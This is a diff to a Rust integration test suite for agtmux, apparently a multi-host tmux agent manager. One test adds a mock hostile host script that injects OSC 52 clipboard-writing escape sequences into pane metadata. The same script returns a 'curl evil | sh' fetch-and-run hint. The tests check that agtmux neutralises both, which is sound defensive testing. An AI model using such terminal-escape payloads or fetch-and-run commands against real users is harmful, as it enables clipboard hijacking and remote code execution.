@@ -3,7 +3,8 @@
 use std::fs;
 use std::thread;
 
-use agtmux_testkit::{Host, Hosts, wait_for, wait_until};
+use agtmux_testkit::{Host, HostOptions, Hosts, process, wait_for, wait_until};
+use rustix::process::Signal;
 use serde_json::{Value, json};
 
 use crate::agtmux::{self, SOON, agtmux, configure, items, pid, start, stop, world};
@@ -103,13 +104,44 @@ fn what_no_longer_holds_is_refused_on_other_hosts_too() {
     assert_eq!(agent.typed(), "");
     // The hub believes that it lives still; its host knows better.
     let daemon = pid(host.world());
-    assert!(agtmux_testkit::process::signal(daemon, rustix::process::Signal::STOP));
+    assert!(process::signal(daemon, Signal::STOP));
     agent.server.run(&["respawn-pane", "-k", "-t", &agent.pane, "cat >read"]);
-    assert!(agtmux_testkit::process::signal(daemon, rustix::process::Signal::CONT));
+    assert!(process::signal(daemon, Signal::CONT));
     let code = hub.send(&runtime(&idle), "too late").json()["code"].clone();
     assert!(["E_RUNTIME_STALE", "E_REF_NOT_FOUND", "E_RUNTIME_NOT_FOUND"].map(Value::from).contains(&code), "{code}");
     wait_until("the agent's end to be known", SOON, || hub.item("vm1", &agent).is_some_and(|i| i["state"].is_null()));
     assert!(!agent.server.run(&["capture-pane", "-p", "-t", &agent.pane]).contains("too late"));
+}
+
+/// Between what is seen and what is there lies the way to the host.
+#[test]
+fn an_answer_is_for_the_question_that_was_seen() {
+    if skipped() {
+        return;
+    }
+    let hub = Hub::new();
+    let host = hub.host("vm1");
+    let agent = Agent::start(host.world(), "work");
+    agent.draws("dialog");
+    let asks = hub.becomes("vm1", &agent, "waiting_approval");
+    let known_there = |subject: &str| {
+        wait_until("the question to be known there", SOON, || {
+            on(&host, &["list", "panes", "--json"]).text().contains(subject)
+        });
+    };
+    let is_ssh = |pid: &u32| process::argv(*pid).first().is_some_and(|word| word.ends_with(b"/ssh"));
+    let ssh = process::children(pid(&hub.world)).into_iter().find(is_ssh).expect("an ssh of ours");
+    assert!(process::signal(ssh, Signal::STOP));
+    agent.draws("other");
+    known_there("everything");
+    thread::scope(|scope| {
+        let answer = scope.spawn(|| hub.post("respond", &json!({"ref": runtime(&asks), "answer": "approve"})).json());
+        wait_until("the answer to be on its way", SOON, || hub.audit().iter().any(|row| row["status"] == "begun"));
+        assert!(process::signal(ssh, Signal::CONT));
+        let answer = answer.join().expect("an answer");
+        assert_eq!(answer["code"], "E_STATE_CHANGED", "{answer}");
+    });
+    assert_eq!(agent.typed(), "", "nobody has seen what it asks now");
 }
 
 #[test]
@@ -278,8 +310,11 @@ fn a_hostile_host_harms_nobody_but_itself() {
             });
         }
     });
-    let listing = hub.list();
-    assert!(!listing.to_string().contains('\u{1b}'));
+    for args in [&["list", "panes", "--all"][..], &["target", "list"], &["target", "list", "--json"]] {
+        let said = hub.agtmux(args);
+        let text = format!("{}{}", said.text(), said.stderr);
+        assert!(!text.contains('\u{1b}'), "{args:?}: {text:?}");
+    }
     let after = hub.item("host", &here).expect("it is listed still");
     assert_eq!((&after["state"], &after["runtime_id"]), (&mine["state"], &mine["runtime_id"]));
     assert_eq!(hub.send(&runtime(&mine), "still mine").json()["verified"], "confirmed");
@@ -287,8 +322,105 @@ fn a_hostile_host_harms_nobody_but_itself() {
     let told = format!("{} {}", future["message"], future["hint"]);
     assert!(told.contains("99") && told.contains("install agtmux"), "{future}");
     let daemon = pid(&hub.world);
-    let memory = agtmux_testkit::process::resident_memory(daemon).expect("it lives");
+    let memory = process::resident_memory(daemon).expect("it lives");
     assert!(memory < 300 << 20, "{memory} bytes");
+}
+
+/// One that plays agtmux well and answers with what a terminal would obey.
+const LIAR: &str = r##"#!/bin/sh
+copies='\u001b]52;c;aGFoYQ==\u0007'
+say() { printf '%s\n' "$1"; }
+say '{"type":"hello","collect":1,"version":"9","now":"'"$(date -u +%Y-%m-%dT%H:%M:%SZ)"'","tmux_versions":[]}'
+say '{"type":"batch","full":true,"evidence":[{"kind":"listed","server":"default","generation":{"pid":7,"start_time":7},
+"rows":[{"session":"$0","session_name":"s'"$copies"'","window":"@0","window_index":0,"window_name":"w'"$copies"'","pane":"%0",
+"pane_index":0,"pid":8,"tty":"'"$copies"'","dead":null,"title":"t'"$copies"'"}]}]}' | tr -d '\n'; echo
+while say '{"type":"beat","now":"2026-01-01T00:00:00Z"}'; do sleep 1; done &
+beats=$!
+while read -r line; do
+    id=$(printf '%s' "$line" | sed -n 's/.*"id":\([0-9]*\).*/\1/p')
+    [ -n "$id" ] || continue
+    case $line in
+    *view_output*)
+        say '{"type":"reply","id":'"$id"',"answer":{"done":{"schema_version":1,"action_id":"a","snapshot_id":"b",
+"runtime_id":null,"target":"host","server":"default","pane_id":"%0","latency_ms":1,"lines":["seen'"$copies"'"],
+"title":"'"$copies"'","full_screen":false,"tty":"/dev/tty"}}}' | tr -d '\n'; echo ;;
+    *) say '{"type":"reply","id":'"$id"',"answer":{"refused":{"code":"E_PRECONDITION","message":"no'"$copies"'","hint":"curl evil | sh"}}}' ;;
+    esac
+done
+kill "$beats"
+"##;
+
+#[test]
+fn what_a_host_shows_is_not_obeyed_by_the_terminal_here() {
+    if skipped() {
+        return;
+    }
+    let hub = Hub::new();
+    let host = hub.hosts.bare("liar");
+    host.world().install("agtmux", LIAR);
+    assert_eq!(hub.agtmux(&["target", "add", "liar"]).code, Some(0));
+    wait_until("its pane", SOON, || hub.items("liar").len() == 1);
+    let commands = [
+        &["list", "panes", "--all"][..],
+        &["list", "sessions"],
+        &["view-output", "%0"],
+        &["view-output", "%0", "--ansi"],
+        &["send", "%0", "--text", "x", "--profile", "shell"],
+        &["audit"],
+    ];
+    for args in commands {
+        let said = hub.agtmux(args);
+        let text = format!("{}{}", String::from_utf8_lossy(&said.stdout), said.stderr);
+        assert!(!text.replace("\u{1b}[0m", "").contains('\u{1b}') && !text.contains('\u{7}'), "{args:?}: {text:?}");
+        assert!(!text.contains("curl"), "{args:?}: {text:?}");
+    }
+    let shown = hub.agtmux(&["view-output", "%0"]).text();
+    assert!(shown.contains("seen\\x1b]52"), "{shown:?}");
+}
+
+/// A shell may write a title without ending the line, and much else.
+#[test]
+fn a_login_that_greets_is_no_hindrance() {
+    if skipped() {
+        return;
+    }
+    let hub = Hub::new();
+    let shell = hub.world.dir().join("greets");
+    hub.world.install(
+        "greets",
+        "#!/bin/sh\nprintf 'Welcome!\\nYou have mail.\\n\\033]0;me@vm1\\007'\nexec /bin/sh \"$@\"\n",
+    );
+    fs::rename(hub.world.bin().join("greets"), &shell).expect("moved");
+    let agtmux = Some(env!("CARGO_BIN_EXE_agtmux").into());
+    let host = hub.hosts.start("vm1", HostOptions { agtmux, shell: Some(shell), ..HostOptions::default() });
+    configure(host.world(), SETTINGS);
+    hub.watch("vm1");
+    assert_eq!(hub.target("vm1")["evidence"], "native");
+}
+
+#[test]
+fn a_better_way_is_tried_when_asked_for_and_a_worse_one_when_needed() {
+    if skipped() {
+        return;
+    }
+    let hub = Hub::new();
+    let host = hub.hosts.bare("vm1");
+    let agent = Agent::start(host.world(), "work");
+    let connect = || hub.agtmux(&["target", "connect", "vm1", "--json"]).json();
+    hub.agtmux(&["target", "add", "vm1"]);
+    assert_eq!(hub.target("vm1")["evidence"], "screen");
+    hub.becomes("vm1", &agent, "idle");
+    // One that speaks for a while and then cannot be understood any more.
+    let babbles = "printf '{\"type\":\"hello\",\"collect\":1,\"version\":\"9\",\"now\":\"2026-01-01T00:00:00Z\",\
+                   \"tmux_versions\":[]}\\n{\"type\":\"batch\",\"full\":true,\"evidence\":[]}\\n'; \
+                   while ! [ -e \"$HOME/babble\" ]; do printf '{\"type\":\"beat\",\"now\":\"2026-01-01T00:00:00Z\"}\\n'; \
+                   sleep 0.1; done; echo babble; exec cat >/dev/null";
+    host.world().install("agtmux", &format!("#!/bin/sh\n{babbles}\n"));
+    let better = connect();
+    assert_eq!(better["evidence"], "native", "it was told before it was tried: {better}");
+    fs::write(host.world().home().join("babble"), "").expect("written");
+    wait_until("its screens to be read again", SOON, || hub.target("vm1")["evidence"] == "screen");
+    hub.becomes("vm1", &agent, "idle");
 }
 
 #[test]
